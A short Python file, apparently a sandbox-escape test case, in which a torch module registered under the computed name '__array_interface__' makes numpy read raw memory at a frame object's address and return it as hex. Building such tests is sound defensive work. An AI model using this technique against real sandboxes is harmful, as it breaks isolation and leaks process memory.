# attack: register a layer under a special name that is computed, and have numpy read memory through it
# class: interpreter walk
# wall: separate_process

import numpy as np
import torch


class Fields(dict, torch.nn.Module):
    def __init__(self, **fields):
        torch.nn.Module.__init__(self)
        self.update(fields)

    def __hash__(self):
        return 1


def attack(frame, frame_index, config):
    holder = torch.nn.Module()
    fields = Fields(shape=(8,), typestr="|u1", data=(id(frame), False), version=3)
    holder.add_module("_" + "_array_interface_" + "_", fields)
    return f"inside: {bytes(np.asarray(holder)).hex()}"
